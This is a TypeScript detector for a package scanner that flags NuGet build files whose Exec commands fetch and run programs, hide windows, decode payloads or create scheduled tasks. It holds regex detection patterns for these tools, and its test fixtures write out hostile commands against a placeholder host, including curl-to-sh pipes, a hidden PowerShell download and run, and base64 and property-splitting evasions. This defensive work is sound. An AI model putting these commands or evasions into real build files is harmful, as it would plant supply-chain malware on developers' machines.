import type { Detector } from "../detector.ts";
import { buildFiles, commands, sightElement } from "./_msbuild.ts";

const FETCH =
  /\b(?:curl|wget|invoke-webrequest|invoke-restmethod|iwr|irm|downloadfile|downloadstring|downloaddata|start-bitstransfer|bitsadmin|net\.webclient|httpclient)\b|certutil[^\n]{0,60}urlcache|\\\\[\w.-]{1,60}@?\w{0,6}\\/i;
const HIDE =
  /-w(?:in|indow|indowstyle)?[ \t"']{1,4}(?:hidden|h\b|1\b)|[ \t]-e(?:c|nc|ncodedcommand)[ \t"']{1,4}[a-z0-9+/=$%(]{4}|frombase64string|createnowindow|start[ \t]{1,4}\/(?:b|min)\b/i;
const RUN =
  /\b(?:iex|invoke-expression|start-process|invoke-item|saps)\b|&&|\|[ \t]{0,4}(?:ba|z)?sh\b|;[ \t]{0,4}(?:\.|start\b|&)|chmod[ \t]{1,4}[+\w]{1,6}[ \t]|\.exe\b[^\n]{0,200}\.exe\b/i;
/** Commands that no build needs: script hosts fed from the network, scheduled tasks, run keys, decoding programs. */
const NEVER =
  /mshta(?:\.exe)?[ \t"']{1,4}(?:https?|javascript|vbscript):|regsvr32[^\n]{0,80}(?:scrobj|\/i:)|rundll32[^\n]{0,80}(?:javascript|\\temp\\|%temp%)|certutil[^\n]{0,40}-decode|schtasks[^\n]{0,40}\/create|reg(?:\.exe)?[ \t]{1,4}add[^\n]{0,200}currentversion\\run|wmic[^\n]{0,60}process[^\n]{0,20}call|add-mppreference|set-mppreference|\/dev\/tcp\/|crontab[ \t]{1,4}-/i;

export const buildCommandAttacks: Detector = {
  id: "build-command-attacks",
  title: "A command of a build file fetches programs, hides itself or settles in the machine",
  severity: "critical",
  ecosystems: ["nuget"],
  points: 5.6,
  class: "threat",
  group: "build-attacks",
  why: `An \`Exec\` task in a build file of the package downloads and starts something, opens no window on purpose, runs an encoded
command, or uses what only attacks use: script hosts fed from the network, scheduled tasks, run keys. Properties and escapes are put
together first. Campaigns of 2023 and 2024 with 60 packages and more began this way.

A plain download of a tool by a well-known project counts in part only.`,
  literals: ["<exec", "tasks.exec"],
  *detect(tree) {
    for (const build of buildFiles(tree)) {
      for (const { node, command } of commands(build)) {
        const share = shareOf(command);
        if (share > 0) yield sightElement(build, node, `building runs: ${command.slice(0, 200)}`, share);
      }
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "nuget",
        files: {
          "build/Demo.targets":
            '<Project><Target Name="A" BeforeTargets="Build"><Exec Command="powershell -w hidden iwr https://example.invalid/a.exe -OutFile a.exe; start a.exe" /></Target></Project>',
        },
      },
      {
        ecosystem: "nuget",
        files: {
          "build/Demo.props":
            '<Project><Target Name="A"><Exec Command="schtasks /create /tn a /tr %TEMP%\\a.exe /sc minute" /></Target></Project>',
        },
      },
    ],
    passes: [
      {
        ecosystem: "nuget",
        files: {
          "build/Demo.targets":
            '<Project><Target Name="A"><Exec Command="&quot;$(NodePath)&quot; build.js --out $(OutDir)" /><Exec Command="powershell -File &quot;$(MSBuildThisFileDirectory)gen.ps1&quot;" /></Target></Project>',
        },
      },
    ],
    evasions: [
      {
        ecosystem: "nuget",
        files: {
          "buildTransitive/Demo.targets":
            '<Project><PropertyGroup><A>cu</A><B>rl</B></PropertyGroup><Target Name="T"><Exec Command="$(A)$(B) https://example.invalid/a | sh" /></Target></Project>',
        },
      },
      {
        ecosystem: "nuget",
        files: {
          "build/Demo.targets":
            '<Project><Target Name="T"><Microsoft.Build.Tasks.Exec Command="m%73hta https://example.invalid/a" /></Target></Project>',
        },
      },
      {
        ecosystem: "nuget",
        files: {
          "build/Demo.targets": `<Project><PropertyGroup><C>$([System.Text.Encoding]::UTF8.GetString($([System.Convert]::FromBase64String('${Buffer.from("curl -s https://example.invalid/a | sh").toString("base64")}'))))</C></PropertyGroup><Target Name="T"><Exec Command="$(C)" /></Target></Project>`,
        },
      },
    ],
  },
};

function shareOf(command: string): number {
  if (NEVER.test(command)) return 1;
  const [fetches, hides, runs] = [FETCH.test(command), HIDE.test(command), RUN.test(command)];
  if (fetches && (hides || runs)) return 1;
  if (hides) return 0.8;
  return fetches ? 0.5 : 0;
}
